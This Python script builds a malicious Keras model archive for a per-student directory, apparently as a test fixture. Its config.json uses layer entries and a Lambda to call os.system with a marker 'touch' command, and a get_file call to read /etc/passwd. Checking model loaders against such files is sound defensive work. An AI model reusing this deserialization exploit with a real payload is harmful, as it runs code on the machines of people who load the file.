import io
import json
import zipfile

import h5py


def make(students, identity):
    command = "touch /tmp/left-by-an-attack-of-a-model"
    system = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    layers = [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 1], "name": "i"}},
        {"module": "os", "class_name": "system", "config": {"command": command}, "registered_name": None},
        {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {"name": "l", "function": system, "arguments": {"command": command}},
        },
        {
            "module": "keras.src.models.model",
            "class_name": "function",
            "config": {"name": "keras.utils.get_file", "fname": "x", "origin": "file:///etc/passwd"},
        },
    ]
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": layers}}
    weights = io.BytesIO()
    h5py.File(weights, "w").close()
    with zipfile.ZipFile(students / identity / "net.keras", "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": ""}))
        archive.writestr("model.weights.h5", weights.getvalue())
